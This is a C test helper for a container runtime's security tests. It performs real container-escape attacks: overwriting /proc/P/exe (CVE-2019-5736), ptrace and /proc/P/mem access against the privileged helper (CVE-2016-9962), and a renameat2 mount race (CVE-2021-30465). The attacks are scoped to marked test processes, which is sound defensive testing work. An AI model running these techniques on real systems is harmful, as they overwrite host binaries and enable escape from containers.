/*
 * The attacker of SecurityIT: what a hostile process does to a container runtime, for real.
 * Built static by the tests (brig.testing.Attacker) so that it runs in a busybox rootfs.
 *
 *   attacker scan STOP MARKER
 *       In a container that shares a pid namespace with the runtime: until the file STOP
 *       exists, looks at every process of the test (MARKER in its command line or in one of
 *       its ancestors': other runs on the machine are left alone) and
 *       - opens /proc/P/exe for writing, and writes (CVE-2019-5736, the direct way);
 *       - opens /proc/P/exe with O_PATH and, once that process has gone, reopens the held
 *         fd through /proc/self/fd for writing, and writes (CVE-2019-5736, the PoC's way);
 *       - against a brig-helper that works with exactly this process's uid and
 *         capabilities: PTRACE_ATTACH, open /proc/P/mem, open each /proc/P/fd/N, read
 *         /proc/P/root and /proc/P/cwd (CVE-2016-9962).
 *       One line on stdout per finding; the writes write "pwned" at offset 0 (the test keeps
 *       a copy of every file it watches).
 *   attacker exchange STOP A1 B1 [A2 B2 ...]
 *       On the host: swaps each pair with renameat2(RENAME_EXCHANGE), round after round, until
 *       STOP exists (CVE-2021-30465's race against mount targets); prints the rounds.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAXPID 4194304

static const char *stop;
static unsigned char *seen; /* per pid: 1 reported, 2 held, 4 tried as a helper */
static unsigned *program; /* per pid: a hash of its command line when reported */

static int stopped(void) { return access(stop, F_OK) == 0; }

static void slurp(const char *path, char *buf, size_t len)
{
	buf[0] = 0;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, len - 1);
	close(fd);
	if (n < 0)
		n = 0;
	buf[n] = 0;
	for (ssize_t k = 0; k < n; k++)
		if (buf[k] == 0)
			buf[k] = ' ';
}

/* "Uid" and "CapEff" of /proc/P/status. */
static void creds(const char *dir, char *uid, char *cap)
{
	char buf[4096], path[64];
	snprintf(path, sizeof path, "%s/status", dir);
	slurp(path, buf, sizeof buf);
	*uid = *cap = 0;
	char *u = strstr(buf, "\nUid:\t"), *c = strstr(buf, "\nCapEff:\t");
	if (u)
		sscanf(u + 6, "%31s", uid);
	if (c)
		sscanf(c + 9, "%31s", cap);
}

struct held { int fd, pid; char link[256]; };
static struct held held[512];
static int nheld;

static void write_through(const char *path, const char *what, int pid, const char *link)
{
	int w = open(path, O_WRONLY | O_CLOEXEC);
	if (w < 0) {
		printf("REFUSED%s %d %s open %s\n", what, pid, link, strerrorname_np(errno));
		return;
	}
	if (write(w, "pwned", 5) > 0)
		printf("WRITE%s %d %s\n", what, pid, link);
	else
		printf("REFUSED%s %d %s write %s\n", what, pid, link, strerrorname_np(errno));
	close(w);
}

/* What an attempt got; reported only if the process was still the helper at work after it. */
static char hits[8192];
static size_t nhits;

static void hit(const char *fmt, int pid, const char *a, const char *b)
{
	int n = snprintf(hits + nhits, sizeof hits - nhits, fmt, pid, a, b);
	if (n > 0 && nhits + (size_t)n < sizeof hits)
		nhits += (size_t)n;
}

static void helper_attacks(int pid, const char *dir, const char *mycap)
{
	char uid[32], cap[32], path[512], link[256];
	creds(dir, uid, cap);
	if (strcmp(uid, "0") || strcmp(cap, mycap))
		return;
	nhits = 0;
	hits[0] = 0;
	/* Seized, not attached: no SIGSTOP that could be left pending. */
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		hit("PTRACE %d%s%s\n", pid, "", "");
		if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
			waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	snprintf(path, sizeof path, "%s/mem", dir);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		hit("MEM %d%s%s\n", pid, "", "");
		close(fd);
	}
	for (const char *l = "root\0cwd\0"; *l; l += strlen(l) + 1) {
		snprintf(path, sizeof path, "%s/%s", dir, l);
		ssize_t n = readlink(path, link, sizeof link - 1);
		if (n >= 0) {
			link[n] = 0;
			hit("LINK %d %s %s\n", pid, l, link);
		}
	}
	snprintf(path, sizeof path, "%s/fd", dir);
	DIR *d = opendir(path);
	if (d) {
		struct dirent *e;
		while ((e = readdir(d))) {
			if (e->d_name[0] == '.')
				continue;
			snprintf(path, sizeof path, "%s/fd/%s", dir, e->d_name);
			int f = open(path, O_PATH | O_CLOEXEC);
			ssize_t n = readlink(path, link, sizeof link - 1);
			link[n < 0 ? 0 : n] = 0;
			if (f >= 0 || n >= 0)
				hit("FD %d %s %s\n", pid, e->d_name, link);
			if (f >= 0)
				close(f);
		}
		closedir(d);
	}
	/* Still the helper with our privileges after the tries (not yet the container's program,
	 * which is ours to trace): they were made against the helper at work. */
	char cmd[256];
	snprintf(path, sizeof path, "%s/cmdline", dir);
	slurp(path, cmd, sizeof cmd);
	creds(dir, uid, cap);
	if (strncmp(cmd, "brig-helper init", 16) || strcmp(uid, "0") || strcmp(cap, mycap))
		return;
	fputs(hits, stdout);
	if (!(seen[pid] & 4)) {
		seen[pid] |= 4;
		printf("TRIED %d cap=%s\n", pid, cap);
	}
}

static const char *marker;

/* The process or one of its ancestors has MARKER in its command line. */
static int ours(int pid)
{
	for (int depth = 0; depth < 8 && pid > 1; depth++) {
		char path[64], buf[4096];
		snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
		slurp(path, buf, sizeof buf);
		if (strstr(buf, marker))
			return 1;
		snprintf(path, sizeof path, "/proc/%d/stat", pid);
		slurp(path, buf, sizeof buf);
		char *paren = strrchr(buf, ')');
		if (!paren || sscanf(paren + 1, " %*c %d", &pid) != 1)
			return 0;
	}
	return 0;
}

static int scan(void)
{
	char mycap[32], myuid[32];
	creds("/proc/self", myuid, mycap);
	printf("me uid=%s cap=%s\n", myuid, mycap);
	seen = calloc(MAXPID, 1);
	program = calloc(MAXPID, sizeof *program);
	int self = getpid();
	while (!stopped()) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == self || pid >= MAXPID)
				continue;
			char dir[64], path[128], cmd[256], link[256];
			snprintf(dir, sizeof dir, "/proc/%d", pid);
			snprintf(path, sizeof path, "%s/cmdline", dir);
			slurp(path, cmd, sizeof cmd);
			if ((!strstr(cmd, "brig") && !strstr(cmd, "/evil")) || !ours(pid))
				continue;
			/* A process that exec'd something else (sh into the launcher) is reported anew. */
			unsigned h = 5381;
			for (const char *c = cmd; *c && *c != ' '; c++)
				h = h * 33 + (unsigned char)*c;
			h |= 1;
			if (program[pid] != h) {
				program[pid] = h;
				seen[pid] &= (unsigned char)~1;
			}
			if (!strncmp(cmd, "brig-helper init", 16))
				helper_attacks(pid, dir, mycap);
			snprintf(path, sizeof path, "%s/exe", dir);
			int fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				ssize_t n = readlink(path, link, sizeof link - 1);
				link[n < 0 ? 0 : n] = 0;
				printf(write(fd, "pwned", 5) > 0 ? "WRITE %d %s\n" : "REFUSED %d %s\n", pid, link);
				close(fd);
			}
			int err = fd >= 0 ? 0 : errno;
			if (!(seen[pid] & 2) && nheld < 512) {
				fd = open(path, O_PATH | O_CLOEXEC);
				if (fd >= 0) {
					char fdp[64];
					snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", fd);
					ssize_t n = readlink(fdp, link, sizeof link - 1);
					link[n < 0 ? 0 : n] = 0;
					seen[pid] |= 2;
					if (strstr(link, "brig-helper") || strstr(link, "/java")) {
						held[nheld++] = (struct held){ fd, pid, "" };
						snprintf(held[nheld - 1].link, sizeof held[0].link, "%s", link);
						printf("HOLD %d %s\n", pid, link);
					} else {
						close(fd);
					}
				} else if (!(seen[pid] & 1)) {
					seen[pid] |= 1;
					cmd[120] = 0;
					printf("DENIED %d exe-write=%s exe=%s %s\n", pid, err ? strerrorname_np(err) : "opened",
					       strerrorname_np(errno), cmd);
				}
			}
		}
		if (d)
			closedir(d);
		/* The held binaries: once their process is gone, the PoC's reopen for writing. */
		for (int k = 0; k < nheld;) {
			char fdp[64], alive[64];
			snprintf(alive, sizeof alive, "/proc/%d", held[k].pid);
			if (access(alive, F_OK) == 0) {
				k++;
				continue;
			}
			snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", held[k].fd);
			int w = open(fdp, O_WRONLY | O_CLOEXEC);
			if (w < 0 && errno == ETXTBSY) {
				k++; /* another process still runs that binary: try again later */
				continue;
			}
			if (w >= 0)
				close(w);
			write_through(fdp, "-HELD", held[k].pid, held[k].link);
			close(held[k].fd);
			held[k] = held[--nheld];
		}
	}
	printf("done\n");
	return 0;
}

static int exchange(int n, char **pairs)
{
	long rounds = 0;
	while (!stopped()) {
		for (int k = 0; k + 1 < n; k += 2)
			if (renameat2(AT_FDCWD, pairs[k], AT_FDCWD, pairs[k + 1], RENAME_EXCHANGE) < 0) {
				printf("renameat2 %s %s: %s\n", pairs[k], pairs[k + 1], strerrorname_np(errno));
				return 1;
			}
		rounds++;
	}
	printf("rounds %ld\n", rounds);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "scan")) {
		stop = argv[2];
		marker = argv[3];
		return scan();
	}
	if (argc >= 5 && !strcmp(argv[1], "exchange") && argc % 2 == 1) {
		stop = argv[2];
		return exchange(argc - 3, argv + 3);
	}
	fprintf(stderr, "usage: attacker scan STOP MARKER | attacker exchange STOP A1 B1 ...\n");
	return 2;
}
